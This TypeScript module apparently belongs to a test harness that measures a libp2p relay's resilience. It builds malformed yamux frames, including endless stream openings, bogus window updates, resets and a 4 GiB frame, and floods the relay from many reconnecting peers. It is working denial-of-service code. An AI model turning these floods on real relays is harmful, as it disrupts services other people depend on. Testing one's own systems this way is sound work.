import type { Connection, Libp2p } from '@libp2p/interface'
import { multiaddr } from '@multiformats/multiaddr'
import { createStockPeer } from '../stock-peer.ts'
import type { Attack, AttackOptions } from './attack.ts'
import { attackerAddress } from './local-address.ts'

/** Frames of yamux (https://github.com/hashicorp/yamux/blob/master/spec.md) as no honest peer sends them. */
const FLOODS = {
  /** Streams without end: 3.6 MB of these stalled the relay for seconds. */
  'yamux-syn': (n: number) => frame({ type: 1, flag: 1, stream: 2 * n + 1, length: 0 }),
  'yamux-ping': (n: number) => frame({ type: 2, flag: 1, stream: 0, length: n }),
  /** Windows of a stream that is not there. */
  'yamux-window': () => frame({ type: 1, flag: 0, stream: 1, length: 1 }),
  'yamux-reset': (n: number) => frame({ type: 1, flag: 9, stream: 2 * n + 1, length: 0 }),
  /** One frame of 4 GiB, and nothing but zeros in it. */
  'yamux-giant': (n: number) =>
    n === 0 ? frame({ type: 0, flag: 1, stream: 1, length: 0xffff_ffff }) : new Uint8Array(12),
} as const

export type FrameFlood = keyof typeof FLOODS

export function isFrameFlood(kind: string): kind is FrameFlood {
  return Object.hasOwn(FLOODS, kind)
}

interface Frame {
  readonly type: number
  readonly flag: number
  readonly stream: number
  readonly length: number
}

function frame({ type, flag, stream, length }: Frame): Uint8Array {
  const bytes = new Uint8Array(12)
  const view = new DataView(bytes.buffer)
  view.setUint8(1, type)
  view.setUint16(2, flag)
  view.setUint32(4, stream)
  view.setUint32(8, length)
  return bytes
}

/** Bytes of one flood: 300,000 frames, as in the measurement that found it. */
const FLOOD_BYTES = 3_600_000

/** Floods over and over: `count` attackers, each reconnecting when it is cut off. */
export function floodFrames(kind: FrameFlood, { count, addresses }: AttackOptions): Attack {
  const address = addresses.find((one) => !one.includes('/ws') && one.includes('/tcp/')) ?? ''
  const { promise: full, resolve } = Promise.withResolvers<void>()
  const closedAfter: number[] = []
  let floods = 0
  const attack = async (n: number): Promise<void> => {
    for (;;) {
      const peer = await createStockPeer({ circuit: false, localAddress: attackerAddress(n) })
      const connection = await connect(peer, address)
      if (connection !== undefined) {
        floods += 1
        resolve()
        const ms = await floodUntilClosed(connection, kind)
        closedAfter.push(ms)
      }
      await peer.stop()
    }
  }
  for (let n = 0; n < count; n += 1) void attack(n)
  return {
    full,
    result: () => ({ floods, closed: closedAfter.length, slowest: Math.max(0, ...closedAfter) }),
  }
}

async function connect(peer: Libp2p, address: string): Promise<Connection | undefined> {
  return peer
    .dial(multiaddr(address), { signal: AbortSignal.timeout(5_000) })
    .catch(() => undefined)
}

/** ms from the first frame until the relay hung up. */
async function floodUntilClosed(connection: Connection, kind: FrameFlood): Promise<number> {
  const { promise: closed, resolve } = Promise.withResolvers<void>()
  connection.addEventListener('close', () => resolve())
  if (connection.status !== 'open') resolve()
  const began = performance.now()
  const raw = rawOf(connection)
  const make = FLOODS[kind]
  const chunk = new Uint8Array(60_000)
  for (
    let n = 0, sent = 0;
    sent < FLOOD_BYTES && connection.status === 'open';
    sent += chunk.length
  ) {
    for (let at = 0; at < chunk.length; at += 12, n += 1) chunk.set(make(n), at)
    raw.send(chunk.slice())
    await new Promise((next) => setImmediate(next))
  }
  await closed
  return performance.now() - began
}

/** What is under the muxer: encrypted, but with no rules of streams. */
function rawOf(connection: Connection): { send(bytes: Uint8Array): void } {
  const muxer: unknown = Reflect.get(connection, 'muxer')
  if (typeof muxer !== 'object' || muxer === null) throw new Error('no muxer')
  const raw: unknown = Reflect.get(muxer, 'maConn')
  if (typeof raw !== 'object' || raw === null) throw new Error('no connection')
  const send: unknown = Reflect.get(raw, 'send')
  if (typeof send !== 'function') throw new Error('no way to send')
  return { send: (bytes) => Reflect.apply(send, raw, [bytes]) }
}
